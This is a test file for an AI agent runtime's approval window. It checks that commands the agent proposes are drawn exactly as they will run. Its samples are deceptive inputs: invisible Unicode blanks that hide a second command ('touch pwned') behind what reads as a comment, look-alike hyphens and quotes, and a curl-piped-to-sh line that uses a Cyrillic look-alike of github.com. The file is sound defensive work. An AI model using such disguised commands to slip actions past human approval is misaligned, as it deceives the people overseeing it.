import { existsSync, realpathSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { TEST_TIMEOUT_MS } from '../scripts/test-timing.ts'
import { approvalConsentView } from '../src/main/core/approval-consent-view.ts'
import type { AgentContext, AgentModel, AgentStep } from '../src/runtime/agent/agent-model.ts'
import { CONSENT_CLASSES, CONSENT_PAGE_IDS } from '../src/preload-protected/consent-page-ids.ts'
import type { ProtectedPage } from './support/cdp-protected-page.ts'
import { bubblewrapRequired } from './support/bubblewrap.ts'
import {
  approvalView,
  chromiumReady,
  useConsentBrowser,
  waitForEnabled,
} from './support/consent-page-browser.ts'
import { startInProcessRuntime } from './support/in-process-runtime.ts'
import { decide, toolCallsOf, waitForPendingApproval } from './support/policy-helpers.ts'
import { createRoom, send, turnSettled } from './support/room-helpers.ts'
import type { RuntimeHarness } from './support/runtime-harness.ts'

// What the protected window shows is what runs: every character of the
// action is drawn so the person reads what the program receives
// (docs/security-model.md, "What the window shows"). Each case renders in
// real Chromium through the CDP preload, the way the layout tests do; the
// first runs the command it shows through a real runtime.

const HAS_BWRAP = await bubblewrapRequired()

/** A model whose one call the test sets, then replies. */
class OneCall implements AgentModel {
  call: { tool: string; arguments: Record<string, unknown> } = { tool: 'list_dir', arguments: {} }
  async next(context: AgentContext): Promise<AgentStep> {
    if (context.outcomes.length > 0) return { type: 'reply', text: 'done' }
    return { type: 'act', say: 'go', actions: [{ type: 'tool', call: this.call }] }
  }
}

const DISPLAY = {
  promptId: 'p',
  roomLabel: 'r',
  agentLabel: 'Assistant',
  lang: 'en' as const,
  theme: 'light' as const,
  enableDelayMs: 600,
}

interface Drawn {
  /** The action as the page renders it (innerText: what layout shows). */
  action: string
  escapes: string[]
  notices: string[]
  /** Words marked as able to pass for another. */
  lookalikes: string[]
}

const drawn = (consent: ProtectedPage) =>
  consent.page.evaluate(`(() => {
    const body = document.getElementById('${CONSENT_PAGE_IDS.actionBody}')
    return {
      action: body.innerText,
      escapes: [...document.querySelectorAll('.${CONSENT_CLASSES.escape}')].map((e) => e.textContent),
      notices: [...document.querySelectorAll('#${CONSENT_PAGE_IDS.notices} .${CONSENT_CLASSES.notice}')]
        .map((n) => n.className.replace('${CONSENT_CLASSES.notice} ${CONSENT_CLASSES.notice}-', '')),
      lookalikes: [...body.querySelectorAll('.${CONSENT_CLASSES.lookalike}')].map((e) => e.textContent),
    }
  })()`) as Promise<Drawn>

/** A one-line shell command, as a view the page draws. */
const commandView = (argv: string[]) =>
  approvalView({
    action: { type: 'command', argv, shell: true, directory: '/home/ada/project' },
    argumentsText: '{}',
  })

/** `line` at every door the window shows a line to be run through: the
 *  runtime's shell command, an external agent's command, an MCP shell
 *  tool's arguments, a script a write leaves behind. */
const doorViews = (line: string) =>
  [
    ['a shell command line', commandView(line.split(' '))],
    [
      "an external agent's command line",
      approvalView({
        kind: 'run-command',
        toolName: 'agent.command',
        action: { type: 'agent-command', commandLine: line, directory: '/p' },
        argumentsText: '{}',
      }),
    ],
    [
      "an MCP tool's arguments",
      approvalView({
        kind: 'mcp-tool-call',
        toolName: 'shell__run',
        action: {
          type: 'mcp',
          serverName: 'shell',
          toolDescription: 'Runs a command.',
          previewText: null,
          serverFolder: null,
        },
        argumentsText: JSON.stringify({ command: line }, null, 2),
      }),
    ],
    [
      "a write's new content",
      approvalView({
        kind: 'apply-changes',
        toolName: 'write_file',
        action: { type: 'write', path: 'go.sh', absolutePath: '/p/go.sh', content: `${line}\n` },
        argumentsText: '{}',
      }),
    ],
  ] as const

/** How the window draws `char` as an escape: `⟨U+2800⟩`. */
const escapeOf = (char: string) =>
  `⟨U+${(char.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}⟩`

describe.skipIf(!chromiumReady)(
  'the protected window draws deceptive text as it runs',
  { timeout: TEST_TIMEOUT_MS },
  () => {
    const browser = useConsentBrowser()
    /** What the window draws for `view`, once its buttons can be used. */
    const drawnFor = async (view: unknown) => {
      const consent = await browser.open({ width: 760, height: 640 })
      await consent.show(view)
      await waitForEnabled(consent, 'deny')
      return drawn(consent)
    }

    describe.runIf(HAS_BWRAP)('a shell command line through the real runtime', () => {
      let harness: RuntimeHarness
      const model = new OneCall()
      beforeAll(async () => {
        harness = await startInProcessRuntime({ model })
      })
      afterAll(async () => harness?.close())

      // U+2800 BRAILLE PATTERN BLANK is drawn as a blank the width of a
      // letter, but the shell reads it as part of a word. So `done⠀#⠀;`
      // reads as `done # ;`, the rest of the line a comment, while sh sees
      // the word `done⠀#⠀`, ends the command at `;` and runs what follows.
      // The ideographic space, a space in Chinese or Japanese text, is read
      // the same way by the shell: between ASCII words it is an escape too.
      it.each([
        ['U+2800 BRAILLE PATTERN BLANK', '\u2800'],
        ['U+3000 IDEOGRAPHIC SPACE', '\u3000'],
      ])(
        'draws %s in `echo done #; touch pwned` as a visible escape and warns',
        async (_name, blank) => {
          const workspace = realpathSync(harness.workspace)
          const made = `pwned-${(blank.codePointAt(0) ?? 0).toString(16)}`
          model.call = {
            tool: 'run_command',
            arguments: { argv: ['echo', `done${blank}#${blank};`, 'touch', made], shell: true },
          }
          const room = await createRoom(harness)
          const turnId = await send(harness, room.id, 'go')
          const approval = await waitForPendingApproval(harness, room.id, turnId)
          const view = approvalConsentView(approval, DISPLAY)

          const consent = await browser.open({ width: 760, height: 640 })
          await consent.show(view)
          await waitForEnabled(consent, 'deny')
          const shown = await drawn(consent)

          // What runs once the person allows what they were shown.
          expect((await decide(harness, approval, 'allow-once')).status).toBe(200)
          await turnSettled(harness, room.id, turnId)
          const [call] = await toolCallsOf(harness, room.id, turnId)
          expect(call).toMatchObject({ status: 'succeeded' })
          expect(existsSync(join(workspace, made)), 'the part after "#" ran').toBe(true)

          // The window must not have let it read as a comment.
          expect(shown.escapes).toContain(escapeOf(blank))
          expect(shown.action).not.toContain(blank)
          expect(shown.notices).toContain('hidden')
        },
      )
    })

    // The same line wherever the window shows one an agent or a server
    // will run: the runtime's command, an external agent's, an MCP
    // shell tool's arguments, and a script a write leaves behind.
    it.each(doorViews('echo done\u3000#\u3000; touch pwned'))(
      'draws an ideographic space between ASCII words in %s as an escape',
      async (_door, view) => {
        const shown = await drawnFor(view)
        expect(shown.escapes).toContain('⟨U+3000⟩')
        expect(shown.action).not.toContain('\u3000')
        expect(shown.notices).toContain('hidden')
      },
    )

    // A fullwidth `＃` or a curly quote is a letter to the shell: it would
    // make what runs read as a comment or as quoted text. A fullwidth sign
    // is marked at every door; a curly quote in a one-line value (text
    // with lines keeps it as prose).
    it.each(doorViews('echo done \uFF03 ; touch pwned'))(
      'marks a fullwidth number sign in %s',
      async (_door, view) => {
        const shown = await drawnFor(view)
        expect(shown.lookalikes).toEqual(['\uFF03'])
        expect(shown.notices).toContain('confusable')
      },
    )
    // Hyphens that pass for an option's dashes: rsync takes `‐‐dry-run`
    // for a file to copy, and copies the rest for real.
    it.each(doorViews('rsync \u2010\u2010dry-run a/ b/'))(
      "marks hyphens that pass for an option's dashes in %s",
      async (_door, view) => {
        const shown = await drawnFor(view)
        expect(shown.lookalikes).toEqual(['\u2010\u2010'])
        expect(shown.notices).toContain('confusable')
      },
    )
    it.each(doorViews('echo \u2018done; touch pwned\u2019').slice(0, 2))(
      'marks curly quotes in %s',
      async (_door, view) => {
        const shown = await drawnFor(view)
        expect(shown.lookalikes).toEqual(['\u2018', '\u2019'])
        expect(shown.notices).toContain('confusable')
      },
    )

    // Other code points drawn with no ink that no format or ignorable
    // category covers: each is an escape, wherever it stands.
    it.each([
      ['BRAILLE PATTERN BLANK', '\u2800'],
      ['MUSICAL SYMBOL NULL NOTEHEAD', '\u{1D159}'],
      ['KHITAN SMALL SCRIPT FILLER', '\u{16FE4}'],
    ])('draws a %s in a command line as a visible escape and warns', async (_name, blank) => {
      const consent = await browser.open({ width: 760, height: 640 })
      await consent.show(commandView(['echo', `done${blank}#${blank};`, 'touch', 'pwned']))
      await waitForEnabled(consent, 'deny')
      const shown = await drawn(consent)
      const label = `⟨U+${(blank.codePointAt(0) ?? 0).toString(16).toUpperCase()}⟩`
      expect(shown.escapes).toContain(label)
      expect(shown.action).not.toContain(blank)
      expect(shown.notices).toContain('hidden')
    })

    // A one-line value that mixes right-to-left letters with others is
    // promised to be drawn in stored order (bidi override) with a
    // direction notice, so digits and punctuation cannot move. Which
    // letters are right-to-left is their bidi class (R or AL), not a short
    // list of scripts: Phoenician, Kharoshthi, Old Turkic, Nabataean and
    // Old Hungarian are, and so is the Arabic question mark, of Common
    // script.
    it.each([
      ['Hebrew (control)', '\u05D0'],
      ['Phoenician', '\u{10900}'],
      ['Old Turkic', '\u{10C00}'],
      ['Kharoshthi', '\u{10A10}'],
      ['Nabataean', '\u{10880}'],
      ['Old Hungarian', '\u{10C80}'],
      ['Arabic question mark', '\u061F'],
    ])(
      'draws a one-line command with a %s letter in stored order, with a direction notice',
      async (_script, letter) => {
        const consent = await browser.open({ width: 760, height: 640 })
        await consent.show(
          approvalView({
            action: {
              type: 'command',
              argv: ['kill', letter, '1', '4242'],
              shell: true,
              directory: '/home/ada/project',
            },
            argumentsText: '{}',
          }),
        )
        await waitForEnabled(consent, 'deny')
        // Where the digits land on screen: x of "1" and of "4242" in the
        // command line's value.
        const order = (await consent.page.evaluate(`(() => {
          const dd = document.querySelector('#${CONSENT_PAGE_IDS.actionBody} .consent-command')
          const walker = document.createTreeWalker(dd, NodeFilter.SHOW_TEXT)
          const text = []
          let node
          while ((node = walker.nextNode())) text.push(node)
          const at = (needle) => {
            for (const t of text) {
              const i = t.data.indexOf(needle)
              if (i < 0) continue
              const range = document.createRange()
              range.setStart(t, i)
              range.setEnd(t, i + needle.length)
              return range.getBoundingClientRect().left
            }
            return null
          }
          return { one: at(' 1 ') , big: at('4242') }
        })()`)) as { one: number; big: number }
        const shown = await drawn(consent)
        expect(order.one, 'the "1" is drawn before "4242", as stored').toBeLessThan(order.big)
        expect(shown.notices).toContain('direction')
      },
    )

    // Runs of ASCII spaces in a path collapse to one, and a trailing space
    // vanishes: `notes  final.txt ` reads as `notes final.txt`, another file.
    it('draws a delete path with two spaces and a trailing space as it is', async () => {
      const path = 'notes  final.txt '
      const consent = await browser.open({ width: 760, height: 640 })
      await consent.show(
        approvalView({
          kind: 'apply-changes',
          toolName: 'delete_file',
          action: {
            type: 'delete',
            path,
            absolutePath: `/home/ada/project/${path}`,
            recursive: false,
          },
          argumentsText: JSON.stringify({ path }, null, 2),
          alwaysAllow: { offered: true, scope: 'path' },
        }),
      )
      await waitForEnabled(consent, 'deny')
      const values = (await consent.page.evaluate(
        `[...document.querySelectorAll('#${CONSENT_PAGE_IDS.actionBody} dd')].map((d) => d.innerText)`,
      )) as string[]
      expect(values).toEqual([path, `/home/ada/project/${path}`])
      // The question above says the same name.
      const title = (await consent.page.evaluate(
        `document.querySelector('#${CONSENT_PAGE_IDS.title} .consent-title-value').innerText`,
      )) as string
      expect(title).toBe(path)
    })

    // The same wherever a value stands in a sentence: the folder the
    // containment line says a command may change.
    it('draws a writable folder with two spaces and a trailing space in the containment line', async () => {
      const root = '/home/ada/my  project '
      const consent = await browser.open({ width: 760, height: 640 })
      await consent.show({
        ...commandView(['make']),
        containment: {
          contained: true,
          writableRoots: [root],
          network: false,
          secretsHidden: true,
        },
      })
      await waitForEnabled(consent, 'deny')
      const line = (await consent.page.evaluate(
        `document.getElementById('${CONSENT_PAGE_IDS.containment}').innerText`,
      )) as string
      expect(line).toContain(` ${root};`)
    })

    // A look-alike letter in a command line: `gіthub.com` with a Cyrillic
    // і (U+0456) is another host than github.com. Names (tools, servers)
    // are checked for confusables; the command the person allows is not.
    it('flags a mixed-script host in a command line as confusable', async () => {
      const consent = await browser.open({ width: 760, height: 640 })
      await consent.show(
        approvalView({
          action: {
            type: 'command',
            argv: ['curl', '-fsSL', 'https://g\u0456thub.com/acme/tool/install.sh', '|', 'sh'],
            shell: true,
            directory: '/home/ada/project',
          },
          argumentsText: '{}',
        }),
      )
      await waitForEnabled(consent, 'deny')
      const shown = await drawn(consent)
      expect(shown.notices).toContain('confusable')
      // The word is marked where it stands and stays readable: no escape.
      expect(shown.lookalikes).toEqual(['g\u0456thub'])
      expect(shown.escapes).toEqual([])
      expect(shown.action).toContain('https://g\u0456thub.com/acme/tool/install.sh')
    })

    it('flags a fullwidth letter among ASCII letters in a path, not a plain Cyrillic or Chinese one', async () => {
      const consent = await browser.open({ width: 760, height: 640 })
      await consent.show(commandView(['cat', '/home/ada/\uFF45nv/notes.txt']))
      await waitForEnabled(consent, 'deny')
      expect((await drawn(consent)).lookalikes).toEqual(['\uFF45nv'])

      const plain = await browser.open({ width: 760, height: 640 })
      await plain.show(commandView(['cat', '/home/ada/Документы/笔记/notes_笔记.txt', 'Привет']))
      await waitForEnabled(plain, 'deny')
      const shown = await drawn(plain)
      expect(shown).toMatchObject({ escapes: [], notices: [], lookalikes: [] })
    })
  },
)
